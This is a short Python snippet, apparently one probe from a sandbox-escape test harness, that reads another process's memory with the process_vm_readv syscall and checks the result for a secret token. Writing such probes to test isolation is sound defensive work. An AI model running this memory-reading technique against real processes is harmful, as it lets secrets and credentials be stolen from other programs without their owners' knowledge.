"""Read another process's memory with one call.

origin: process_vm_readv
why: no debugger, no file, no trace in the other process
control: depends — on the ptrace rules of the machine
"""


def attack(target):
    size = target["length"]
    buffer = ctypes.create_string_buffer(size)
    local = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), size)
    remote = (ctypes.c_uint64 * 2)(target["address"], size)
    result, error = syscall(target, "process_vm_readv", target["victim"], local, 1, remote, 1, 0)
    if result < 0:
        return blocked("process_vm_readv", error)
    return escaped("the victim's memory was read") if holds_token(target, buffer.raw) else nothing("no secret there")
